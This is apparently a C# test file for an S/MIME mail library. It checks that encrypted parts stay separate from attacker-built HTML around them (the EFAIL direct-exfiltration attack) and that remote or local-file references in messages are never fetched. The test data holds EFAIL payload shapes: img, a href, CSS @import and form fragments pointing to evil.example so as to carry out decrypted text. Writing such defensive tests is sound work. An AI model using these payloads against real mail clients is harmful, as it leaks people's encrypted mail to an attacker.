using System.Diagnostics.Tracing;
using System.Net;
using System.Net.Sockets;
using System.Text;
using SmimePS.Cms;
using SmimePS.Messages;
using SmimePS.Mime;
using SmimePS.Verdicts;

namespace SmimePS.Core.Tests.Messages;

/// <summary>
/// What an attacker built around a ciphertext must not get hold of its text (EFAIL, direct exfiltration): each encrypted part is opened by
/// itself, and what stood around it stays as it came. And nothing that a message refers to is touched.
/// </summary>
public class OpeningSafelyTests
{
    private const string Secret = "Meet me at nine.";

    private static readonly OpenOptions Bob = new() { Identities = [MailPeople.BobRsa] };

    private static string Ciphertext { get; } = Entity(Encrypt(TestMail.Plain));

    private static readonly (string Name, string Body, string[] Locations)[] Shapes =
    [
        ("image around it", Multipart("mixed", Html("<img src=\"http://evil.example/"), Ciphertext, Html("\">")), ["2"]),
        ("alternative", Multipart("alternative", Html("<a href='http://evil.example/"), Ciphertext, Html("'>x</a>")), ["2"]),
        ("related", Multipart("related", Html("<iframe src=\"cid:c\"></iframe><img src=\"http://evil.example/"), "Content-ID: <c>\r\n" + Ciphertext), ["2"]),
        ("style and form", Multipart("mixed", Html("<style>@import \"http://evil.example/"), Ciphertext, Html("\";</style><form action=\"http://evil.example\"><textarea name=t>"), Ciphertext, Html("</textarea></form>")), ["2", "4"]),
        ("deep", Multipart("mixed", Html("<b>"), Multipart("alternative", Html("<img src='http://evil.example/"), Multipart("related", Ciphertext), Html("'>"))), ["2.2.1"]),
        ("forwarded", Multipart("mixed", Html("<img src=\"http://evil.example/"), "Content-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\n" + Ciphertext, Html("\">")), ["2.1"]),
        ("forwarded twice", Multipart("mixed", Html("x"), "Content-Type: message/rfc822\r\n\r\nFrom: a@example.org\r\nContent-Type: message/rfc822\r\n\r\nFrom: b@example.org\r\n" + Ciphertext), ["2.1.1"]),
        ("forwarded whole", "Content-Type: message/rfc822\r\n\r\nFrom: a@example.org\r\n" + Ciphertext, ["1"]),
        ("as octet-stream", Multipart("mixed", Html("<img src=\"http://evil.example/"), Ciphertext.Replace("application/pkcs7-mime; smime-type=enveloped-data;", "application/octet-stream;"), Html("\">")), ["2"]),
        ("signed by the attacker, with more beside", Multipart("signed; protocol=\"application/pkcs7-signature\"", Ciphertext, "Content-Type: application/pkcs7-signature\r\n\r\nMIIB\r\n", Html("<img src=\"http://evil.example/")), ["1"]),
        ("signed by the attacker, with text before", Multipart("signed; protocol=\"application/pkcs7-signature\"", Ciphertext, "Content-Type: application/pkcs7-signature\r\n\r\nMIIB\r\n").Replace("\r\n\r\n--", "\r\n\r\n<img src=\"http://evil.example/\r\n--"), ["1"]),
    ];

    public static TheoryData<string> Names => [.. Shapes.Select(static shape => shape.Name)];

    [Theory]
    [MemberData(nameof(Names))]
    public void An_encrypted_part_is_never_merged_with_what_stands_around_it(string name)
    {
        var (_, body, locations) = Shapes.Single(shape => shape.Name == name);
        var text = "From: mallory@example.org\r\nMIME-Version: 1.0\r\n" + body;
        using var opened = MessageOpener.Open(TestMail.From(text), Bob, TestContext.Current.CancellationToken);
        // What is written to files and into pipelines: not a byte of the text is in it.
        Assert.Equal(text, TestMail.Text(opened.Content));
        Assert.False(opened.Content.WasEncrypted);
        Assert.Equal(locations, opened.Parts.Select(static part => part.Location));
        foreach (var part in opened.Parts)
        {
            Assert.Equal("Content-Type: text/plain\r\n\r\n" + Secret + "\r\n", Read(part.OpenRead()));
            Assert.Equal(ContentIntegrity.Alterable, part.Integrity);
        }

        // Nor does a check open it, since what it says about it would be said about all.
        var verdict = new SignatureChecker(MailPeople.Anchors).Check(TestMail.From(text), new CheckOptions { Identities = [MailPeople.BobRsa] }, TestContext.Current.CancellationToken);
        Assert.False(verdict.IsTrusted);
        Assert.DoesNotContain(verdict.Layers, static layer => layer is EncryptionLayer);
        Assert.DoesNotContain(verdict.AllFindings, static finding => finding.Message.Contains(Secret));
    }

    /// <summary>The attacker's own envelope around the same: it opens, and what is inside it stays apart all the same.</summary>
    [Theory]
    [MemberData(nameof(Names))]
    public void Nor_is_it_inside_an_envelope_of_the_attackers(string name)
    {
        var (_, body, locations) = Shapes.Single(shape => shape.Name == name);
        using var opened = MessageOpener.Open(TestMail.From("From: mallory@example.org\r\nMIME-Version: 1.0\r\n" + Envelope(body)), Bob, TestContext.Current.CancellationToken);
        Assert.Equal("From: mallory@example.org\r\nMIME-Version: 1.0\r\n" + body, TestMail.Text(opened.Content));
        Assert.Equal(locations, opened.Parts.Select(static part => part.Location));
        Assert.All(opened.Parts, static part => Assert.Contains(Secret, Read(part.OpenRead())));
    }

    /// <summary>Pages of different protection stay where they are; none is written into another.</summary>
    [Fact]
    public void Pages_of_several_layers_stay_apart()
    {
        var inner = Entity(Encrypt(TestMail.Plain.Replace("text/plain", "text/html").Replace(Secret, "<p>" + Secret + "</p>")));
        var signed = Entity(Protect(TestMail.Plain.Replace("text/plain", "text/html").Replace(Secret, "<p>Signed.</p>"), new ProtectionRequest { Sign = true, Form = SignatureForm.Opaque, Signers = [MailPeople.AliceEc] }));
        foreach (var subtype in new[] { "mixed", "alternative", "related" })
        {
            var text = "From: mallory@example.org\r\nMIME-Version: 1.0\r\n" + Multipart(subtype, Html("<div style=\"display:none\"><img src=\"http://evil.example/"), inner, signed, Html("\"></div>"));
            using var opened = MessageOpener.Open(TestMail.From(text), Bob, TestContext.Current.CancellationToken);
            Assert.Equal(text, TestMail.Text(opened.Content));
            Assert.Equal(["2", "3"], opened.Parts.Select(static part => part.Location));
            Assert.Equal([[typeof(EncryptionLayer)], [typeof(SignatureLayer)]], opened.Parts.Select(static part => part.Layers.Select(static layer => layer.GetType()).ToArray()));
            Assert.DoesNotContain("Signed", Read(opened.Parts[0].OpenRead()));
            Assert.DoesNotContain(Secret, Read(opened.Parts[1].OpenRead()));
        }
    }

    [Fact]
    public void A_part_that_does_not_open_withholds_nothing_else()
    {
        var foreign = Entity(Protect(TestMail.Plain, new ProtectionRequest { Encrypt = true, Recipients = [MailPeople.AliceRsa.Certificate], IncludeSender = false }));
        var cut = Ciphertext[..(Ciphertext.Length / 2)] + "\r\n";
        using var opened = MessageOpener.Open(TestMail.From("From: m@example.org\r\n" + Multipart("mixed", foreign, cut, Ciphertext)), Bob, TestContext.Current.CancellationToken);
        Assert.Equal(["NoMatchingKey", "TruncatedCms", null], opened.Parts.Select(static part => part.Error?.ErrorId));
        Assert.Contains(Secret, Read(opened.Parts[2].OpenRead()));
    }

    /// <summary>
    /// Opening a message must not tell its sender that it was opened, nor read files for them. The message refers to a server and a file
    /// in every way there is; nobody may come to either.
    /// </summary>
    [Fact]
    public async Task What_a_message_refers_to_is_not_touched()
    {
        var cancellation = TestContext.Current.CancellationToken;
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var url = $"http://127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port}/pixel.png";
        using var folder = new TemporaryFolder();
        var file = Path.Combine(folder.Path, "private.txt");
        await File.WriteAllTextAsync(file, "a private file", cancellation);
        using var names = new ResolvedNames();
        using var reads = new FileReads(folder.Path);

        var references = Multipart("related",
            Html($"<html><head><base href=\"{url}\"><link rel=stylesheet href=\"{url}\"><style>@import url({url}); body {{ background: url(file://{file}) }}</style></head>"
                + $"<body background=\"{url}\"><img src=\"{url}\"><img src=\"file://{file}\"><img src=\"cid:x@touched.invalid\"><img src=\"https://touched.invalid/a.png\"><iframe src=\"{url}\"></iframe><object data=\"{url}\"></object></body></html>"),
            $"Content-Type: message/external-body; access-type=URL; URL=\"{url}\"\r\n\r\nContent-Type: image/png\r\nContent-ID: <x@touched.invalid>\r\n\r\n",
            $"Content-Type: message/external-body; access-type=local-file; name=\"{file}\"\r\n\r\nContent-Type: text/plain\r\nContent-ID: <y@touched.invalid>\r\n\r\n",
            "Content-Type: message/external-body; access-type=anon-ftp; site=\"touched.invalid\"; name=\"x\"\r\n\r\nContent-Type: application/pkcs7-mime; name=smime.p7m\r\n\r\n",
            $"Content-Type: text/plain; name=\"{file}\"\r\nContent-Location: file://{file}\r\nContent-Base: {url}\r\n\r\nx\r\n");
        foreach (var text in new[] { references, Entity(Encrypt("From: a@example.org\r\n" + references)), Multipart("mixed", Html("x"), Entity(Encrypt("From: a@example.org\r\n" + references))) })
        {
            var message = TestMail.From("From: mallory@example.org\r\nTo: bob@example.org\r\nX-Face-URL: " + url + "\r\nMIME-Version: 1.0\r\n" + text);
            using var opened = MessageOpener.Open(message, Bob, cancellation);
            var all = TestMail.Text(opened.Content) + string.Concat(opened.Parts.Where(static part => part.Error is null).Select(static part => Read(part.OpenRead())));
            Assert.DoesNotContain("a private file", all);
            _ = new SignatureChecker(MailPeople.Anchors).Check(message, new CheckOptions { Identities = [MailPeople.BobRsa] }, cancellation);
            _ = MessageSummary.AttachmentNames(opened.Content);
            using var loaded = opened.Content.Load(cancellation);
            using var again = MessageProtector.Protect(opened.Content, new ProtectionRequest { Sign = true, Signers = [MailPeople.AliceEc], AllowOtherSigner = true, AllowProtected = true }, cancellation);
            _ = new SignatureChecker(MailPeople.Anchors).Check(again, null, cancellation);
        }

        await Task.Delay(200, cancellation);
        Assert.False(listener.Pending(), "Somebody came to the server that the message names.");
        Assert.DoesNotContain(names.All, static name => name.Contains("touched.invalid"));
        Assert.False(reads.Any, "The file that the message names was read.");
        // That these see what they are to see.
        await File.ReadAllTextAsync(file, cancellation);
        try
        {
            await Dns.GetHostAddressesAsync("seen.invalid", cancellation);
        }
        catch (SocketException)
        {
            // There is no such host; that it was asked for is what counts.
        }

        await Task.Delay(200, cancellation);
        Assert.Contains(names.All, static name => name.Contains("seen.invalid"));
        if (OperatingSystem.IsLinux()) Assert.True(reads.Any);
    }

    private static string Html(string html) => "Content-Type: text/html\r\n\r\n" + html + "\r\n";

    private static string Multipart(string subtype, params string[] parts)
    {
        var boundary = "b" + Guid.NewGuid().ToString("N");
        return $"Content-Type: multipart/{subtype}; boundary={boundary}\r\n\r\n" + string.Concat(parts.Select(part => $"--{boundary}\r\n{part}\r\n")) + $"--{boundary}--\r\n";
    }

    private static string Encrypt(string message) => Protect(message, new ProtectionRequest { Encrypt = true, Recipients = [MailPeople.BobRsa.Certificate], IncludeSender = false });

    private static string Envelope(string entity)
    {
        using var output = new MemoryStream();
        using (var writer = new EnvelopedDataWriter(output, [new CmsRecipient(MailPeople.BobRsa.Certificate)], ContentEncryption.Aes256Gcm))
        {
            writer.Write(Encoding.Latin1.GetBytes(entity));
            writer.Complete();
        }

        return "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" + Convert.ToBase64String(output.ToArray(), Base64FormattingOptions.InsertLineBreaks) + "\r\n";
    }

    private static string Protect(string message, ProtectionRequest request)
    {
        using var output = MessageProtector.Protect(TestMail.From(message), request with { ProtectHeader = false }, TestContext.Current.CancellationToken);
        return TestMail.Text(output);
    }

    private static string Entity(string message) => message[message.IndexOf("Content-Type:", StringComparison.Ordinal)..];

    private static string Read(Stream stream)
    {
        using var reader = new StreamReader(stream, Encoding.Latin1);
        return reader.ReadToEnd();
    }

    /// <summary>Every name that this process asks the name service for.</summary>
    private sealed class ResolvedNames : EventListener
    {
        private readonly List<string> _names = [];

        public IReadOnlyList<string> All
        {
            get
            {
                lock (_names) return [.. _names];
            }
        }

        protected override void OnEventSourceCreated(EventSource eventSource)
        {
            if (eventSource.Name == "System.Net.NameResolution") EnableEvents(eventSource, EventLevel.LogAlways, EventKeywords.All);
        }

        protected override void OnEventWritten(EventWrittenEventArgs eventData)
        {
            // It is called while the base class is still being made.
            if (_names is null) return;
            lock (_names) _names.AddRange(eventData.Payload?.OfType<string>() ?? []);
        }
    }

    /// <summary>Whether a file of a folder is read; seen on Linux alone.</summary>
    private sealed class FileReads : IDisposable
    {
        private readonly FileSystemWatcher _watcher;
        private volatile bool _any;

        public FileReads(string folder)
        {
            _watcher = new FileSystemWatcher(folder) { NotifyFilter = NotifyFilters.LastAccess };
            _watcher.Changed += (_, _) => _any = true;
            _watcher.EnableRaisingEvents = true;
        }

        public bool Any => _any;

        public void Dispose() => _watcher.Dispose();
    }
}
